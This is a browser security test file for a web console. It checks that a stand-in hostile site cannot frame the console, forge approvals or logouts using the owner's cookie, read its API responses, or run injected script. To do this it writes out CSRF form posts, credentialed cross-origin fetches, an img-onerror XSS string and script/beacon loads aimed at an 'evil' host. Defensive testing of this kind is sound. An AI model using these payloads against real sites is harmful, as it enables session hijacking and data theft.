import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { routes } from '@batua/contract'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { DESK, openBrowser, openTab, type Tab } from '../src/browser.ts'
import { type ConsoleStage, openConsoleStage, statusOf } from '../src/console-stage.ts'

let opened: ConsoleStage
let browser: Browser
let attacker: Server
/** Another site to browsers, which know the service by its address. */
let evil: string
let page = ''
const tabs: Tab[] = []

beforeAll(async () => {
  opened = await openConsoleStage()
  browser = await openBrowser()
  attacker = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(page)
  })
  await new Promise<void>(resolve => attacker.listen(0, '127.0.0.1', resolve))
  evil = `http://localhost:${(attacker.address() as AddressInfo).port}/`
})
afterEach(async () => {
  for (const tab of tabs.splice(0)) await tab.close()
})
afterAll(async () => {
  await browser.close()
  await new Promise(resolve => attacker.close(resolve))
  await opened.stage.close()
})

async function ownersTab(): Promise<Tab> {
  const { address } = opened.stage.service
  const tab = await openTab(browser, { ...DESK, address, session: opened.ownerSession })
  tabs.push(tab)
  return tab
}

test('another site cannot show the console in a frame', async () => {
  const tab = await ownersTab()
  page = `<iframe id="console" src="${opened.stage.service.address}/console/inbox"></iframe>`
  await tab.page.goto(evil)
  await tab.page.waitForLoadState()
  // The browser replaces the page that may not be framed by one of its own.
  expect(tab.page.frames().map(frame => frame.url())).not.toContainEqual(expect.stringContaining('/console'))
  expect(tab.problems.join(' ')).toMatch(/frame/i)
})

test('another site cannot approve, log out or end sessions with the owner’s cookie', async () => {
  const approvalId = await opened.ask(140)
  const { address } = opened.stage.service
  const tab = await ownersTab()
  const targets = [
    `/v1/approvals/${approvalId}/approve`,
    '/v1/auth/logout',
    '/api/web/agents/pause',
    '/v1/passkeys/options',
  ]
  for (const target of targets) {
    page = `<form method="post" enctype="text/plain" action="${address}${target}"><input name='{"a":"' value='"}'></form>
      <script>document.forms[0].submit()</script>`
    await tab.page.goto(evil)
    await tab.page.waitForURL(`${address}${target}`)
    expect([target, await tab.page.locator('body').innerText()]).toEqual([
      target,
      expect.stringMatching(/authorization_error|authentication_error/),
    ])
  }
  page = `<script>
    const ask = credentials => fetch('${address}/v1/approvals/${approvalId}/approve', {
      method: 'POST', credentials, headers: { 'content-type': 'application/json' }, body: '{}' })
    Promise.allSettled([ask('include'), ask('omit')]).then(results => { document.title = results.map(r => r.status).join() })
  </script>`
  await tab.page.goto(evil)
  await tab.page.waitForFunction('document.title !== ""')
  expect(await tab.page.title()).toBe('rejected,rejected')
  expect(await statusOf(opened, approvalId)).toBe('pending_approval')
  await opened.stage.api.ok(routes.getSession, { headers: opened.ownerSession })
})

test('another site cannot read what the console reads', async () => {
  const tab = await ownersTab()
  const { address } = opened.stage.service
  page = `<script>
    Promise.allSettled(['/v1/agents', '/api/web/events', '/console/inbox'].map(path =>
      fetch('${address}' + path, { credentials: 'include' }).then(response => response.text())
    )).then(results => { document.title = results.map(r => r.status).join() })
  </script>`
  await tab.page.goto(evil)
  await tab.page.waitForFunction('document.title !== ""')
  expect(await tab.page.title()).toBe('rejected,rejected,rejected')
})

test('a script in the page cannot read the session, and nothing in the browser’s storage is a secret', async () => {
  const tab = await ownersTab()
  await tab.open('/console/inbox')
  await tab.open(`/console/agents/${opened.buyer.id}`)
  const kept = await tab.page.evaluate(`(async () => JSON.stringify({
    cookie: document.cookie,
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await Promise.all((await caches.keys()).map(async name =>
      (await (await caches.open(name)).keys()).map(({ url }) => new URL(url).pathname))),
  }))()`)
  const { cookie, local, session, databases, caches } = JSON.parse(String(kept))
  expect(cookie).toBe('')
  expect(JSON.stringify({ local, session })).not.toMatch(/ses_live|agk_live|sk_live|\d{10}/)
  expect(databases).toEqual([])
  for (const path of caches.flat()) expect(path).toMatch(/^\/console/)
})

test('injected markup runs no script and loads nothing from elsewhere', async () => {
  const tab = await ownersTab()
  await tab.open('/console/inbox')
  const outcome = await tab.page.evaluate(`(async () => {
    const tried = []
    const attempt = (name, run) => { try { run() } catch { tried.push(name) } }
    attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="window.hacked=1">' })
    attempt('code as text', () => { setTimeout('window.hacked = 2') })
    const script = document.createElement('script')
    attempt('script text', () => { script.text = 'window.hacked = 3' })
    attempt('script src', () => { script.src = '${evil}evil.js' })
    document.body.append(script)
    const image = new Image()
    const loaded = new Promise(resolve => { image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused') })
    image.src = '${evil}pixel.png'
    const beacon = await fetch('${evil}').then(() => 'sent', () => 'refused')
    await new Promise(resolve => setTimeout(resolve))
    return { tried, hacked: window.hacked ?? null, image: await loaded, beacon }
  })()`)
  expect(outcome).toMatchObject({ hacked: null, image: 'refused', beacon: 'refused' })
})
